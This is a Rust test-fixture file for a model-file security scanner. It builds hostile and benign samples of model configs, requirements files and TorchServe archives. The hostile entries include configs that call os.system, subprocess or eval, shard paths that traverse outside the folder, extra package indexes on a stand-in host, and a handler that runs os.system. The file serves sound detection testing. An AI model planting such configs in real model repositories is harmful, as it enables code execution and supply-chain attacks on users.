//! Configuration beside the weights, what is installed with it, and manifests of servers.

use crate::{
    Sample,
    zip::{Member, zip},
};

const FAMILY: &str = "config";

/// What it does, its name, its text, and the rules that tell.
const HOSTILE: &[(&str, &str, &str, &[&str])] = &[
    (
        "code of another repository",
        "config.json",
        r#"{"auto_map": {"AutoModel": "owner/other--modeling_x.Model"}}"#,
        &["CFG002"],
    ),
    (
        "tokenizer of another repository",
        "tokenizer_config.json",
        r#"{"auto_map": {"AutoTokenizer": ["owner/other--tok.Tok", null]}}"#,
        &["CFG002"],
    ),
    (
        "processor of another repository",
        "preprocessor_config.json",
        r#"{"auto_map": {"AutoImageProcessor": "owner/other--proc.Proc"}}"#,
        &["CFG002"],
    ),
    (
        "pipeline of another repository",
        "config.json",
        r#"{"custom_pipelines": {"x": {"impl": "owner/other--pipe.Pipe"}}}"#,
        &["CFG002"],
    ),
    (
        "generation by another repository",
        "generation_config.json",
        r#"{"custom_generate": "owner/other"}"#,
        &["CFG002"],
    ),
    (
        "program that is called",
        "config.json",
        r#"{"_target_": "posix.system", "_args_": ["true"]}"#,
        &["CFG004"],
    ),
    (
        "program in a list",
        "config.json",
        r#"{"a": [{"b": {"_target_": "subprocess.run", "args": ["true"]}}]}"#,
        &["CFG004"],
    ),
    ("eval that is called", "model_config.json", r#"{"head": {"_target_": "builtins.eval"}}"#, &["CFG004"]),
    ("class by another key", "config.json", r#"{"class_path": "subprocess.Popen"}"#, &["CFG004"]),
    (
        "library of an adapter",
        "adapter_config.json",
        r#"{"auto_mapping": {"base_model_class": "system", "parent_library": "os"}}"#,
        &["CFG004"],
    ),
    (
        "part of a model of sentences",
        "modules.json",
        r#"[{"idx": 0, "name": "0", "path": "", "type": "os.system"}]"#,
        &["CFG004"],
    ),
    (
        "part that runs code",
        "modules.json",
        r#"[{"idx": 0, "name": "0", "path": "", "type": "code.interact"}]"#,
        &["CFG004"],
    ),
    (
        "part of a pipeline",
        "model_index.json",
        r#"{"_class_name": "X", "unet": ["os", "system"]}"#,
        &["CFG004"],
    ),
    (
        "shard above the folder",
        "model.safetensors.index.json",
        r#"{"weight_map": {"a": "../x.safetensors"}}"#,
        &["CFG005"],
    ),
    (
        "shard by its address",
        "model.safetensors.index.json",
        r#"{"weight_map": {"a": "https://example.invalid/x"}}"#,
        &["CFG005"],
    ),
    (
        "shard from the root",
        "pytorch_model.bin.index.json",
        r#"{"weight_map": {"a": "/etc/x"}}"#,
        &["CFG005"],
    ),
    (
        "shard on a drive",
        "pytorch_model.bin.index.json",
        r#"{"weight_map": {"a": "C:\\x.bin"}}"#,
        &["CFG005"],
    ),
    (
        "second index of packages",
        "requirements.txt",
        "torch\n--extra-index-url https://packages.example.invalid/simple\ninternal-package\n",
        &["CFG008"],
    ),
    (
        "other index of packages",
        "requirements.txt",
        "--index-url=https://packages.example.invalid/simple\ntorch\n",
        &["CFG008"],
    ),
    (
        "index by its short name",
        "requirements.txt",
        "-i https://packages.example.invalid/simple\ntorch\n",
        &["CFG008"],
    ),
    (
        "package without protection",
        "requirements.txt",
        "http://example.invalid/torch-2.0-py3-none-any.whl\n",
        &["CFG008"],
    ),
    (
        "package by a name without protection",
        "requirements_gpu.txt",
        "torch @ http://example.invalid/torch.whl\n",
        &["CFG008"],
    ),
    (
        "environment with a second index",
        "conda.yaml",
        "dependencies:\n- pip:\n  - --extra-index-url https://packages.example.invalid/simple\n",
        &["CFG008"],
    ),
    (
        "model of MLflow with a dangerous loader",
        "MLmodel",
        "flavors:\n  python_function:\n    loader_module: runpy\n",
        &["CFG004"],
    ),
];

/// Manifests of archives for `TorchServe`: what they do and what stands in them.
const MANIFESTS: &[(&str, &str)] = &[
    ("handler above the archive", r#"{"model": {"handler": "../../tmp/x.py"}}"#),
    ("handler from the root", r#"{"model": {"handler": "/tmp/x.py:handle"}}"#),
    ("handler of the system", r#"{"model": {"handler": "os:system"}}"#),
    (
        "weights above the archive",
        r#"{"model": {"handler": "image_classifier", "serializedFile": "../x.pt"}}"#,
    ),
    (
        "files from elsewhere",
        r#"{"model": {"handler": "image_classifier", "extraFiles": "a.json,https://example.invalid/x"}}"#,
    ),
    ("other program that serves", r#"{"runtime": "/bin/sh", "model": {"handler": "image_classifier"}}"#),
];

/// What it is, its name and its text.
const BENIGN: &[(&str, &str, &str)] = &[
    (
        "configuration",
        "config.json",
        r#"{"architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 64, "rope_scaling": null, "torch_dtype": "bfloat16", "transformers_version": "4.50.0"}"#,
    ),
    (
        "generation",
        "generation_config.json",
        r#"{"bos_token_id": 1, "do_sample": true, "temperature": 0.6, "trust_remote_code": false}"#,
    ),
    (
        "adapter",
        "adapter_config.json",
        r#"{"auto_mapping": {"base_model_class": "BertModel", "parent_library": "transformers.models.bert.modeling_bert"}, "base_model_name_or_path": "google-bert/bert-base-uncased", "peft_type": "LORA", "target_modules": ["query", "value"]}"#,
    ),
    (
        "model of sentences",
        "modules.json",
        r#"[{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}, {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"}]"#,
    ),
    (
        "settings of a model of sentences",
        "config_sentence_transformers.json",
        r#"{"__version__": {"sentence_transformers": "3.0.0"}, "prompts": {"query": "query: "}, "similarity_fn_name": "cosine"}"#,
    ),
    (
        "pipeline",
        "model_index.json",
        r#"{"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.6.0", "safety_checker": ["stable_diffusion", "StableDiffusionSafetyChecker"], "unet": ["diffusers", "UNet2DConditionModel"], "text_encoder": ["transformers", "CLIPTextModel"], "feature_extractor": [null, null]}"#,
    ),
    (
        "index",
        "model.safetensors.index.json",
        r#"{"metadata": {"total_size": 8}, "weight_map": {"a": "model-00001-of-00002.safetensors", "b": "model-00002-of-00002.safetensors"}}"#,
    ),
    (
        "tokenizer",
        "tokenizer.json",
        r#"{"added_tokens": [{"id": 0, "content": "<s>"}, {"id": 1, "content": "</s>"}], "normalizer": {"type": "Replace", "pattern": {"String": " "}, "content": "_"}, "model": {"type": "BPE"}}"#,
    ),
    (
        "packages",
        "requirements.txt",
        "# what the example needs\n--extra-index-url https://download.pytorch.org/whl/cu121\ntorch>=2.1  # with CUDA\ntransformers==4.50.0\ngit+https://github.com/huggingface/peft.git@v0.10.0\n-r other.txt\n",
    ),
];

/// An archive for `TorchServe`.
pub fn mar(manifest: &str, handler: Option<&str>) -> Vec<u8> {
    let mut members = vec![Member::deflated("MAR-INF/MANIFEST.json", manifest.as_bytes())];
    if let Some(handler) = handler {
        members.push(Member::deflated("handler.py", handler.as_bytes()));
    }
    zip(&members)
}

/// The files of this family.
pub fn samples() -> Vec<Sample> {
    let mut samples = Vec::new();
    for (what, name, text, codes) in HOSTILE {
        samples.push(Sample::hostile(
            FAMILY,
            *what,
            format!("model/{name}"),
            text.as_bytes().to_vec(),
            codes,
        ));
    }
    for (what, manifest) in MANIFESTS {
        let sample = Sample::hostile(FAMILY, *what, "model.mar", mar(manifest, None), &["CFG009"]);
        samples.push(sample.from_advisory("CVE-2023-48299"));
    }
    let plain = r#"{"createdOn": "01/01/2026 00:00:00", "runtime": "python", "model": {"modelName": "x", "handler": "handler.py", "modelVersion": "1.0", "requirementsFile": "requirements.txt"}, "archiverVersion": "0.9.0"}"#;
    samples.push(Sample::hostile(
        FAMILY,
        "handler that starts a program",
        "model.mar",
        mar(plain, Some("import os\n\n\ndef handle(data, context):\n    os.system('true')\n")),
        &["PYS002"],
    ));
    samples.push(Sample::benign(
        FAMILY,
        "archive for TorchServe",
        "model.mar",
        mar(
            plain,
            Some("import torch\n\n\ndef handle(data, context):\n    return torch.as_tensor(data).tolist()\n"),
        ),
    ));
    for (what, name, text) in BENIGN {
        samples.push(Sample::benign(FAMILY, *what, format!("model/{name}"), text.as_bytes().to_vec()));
    }
    samples
}
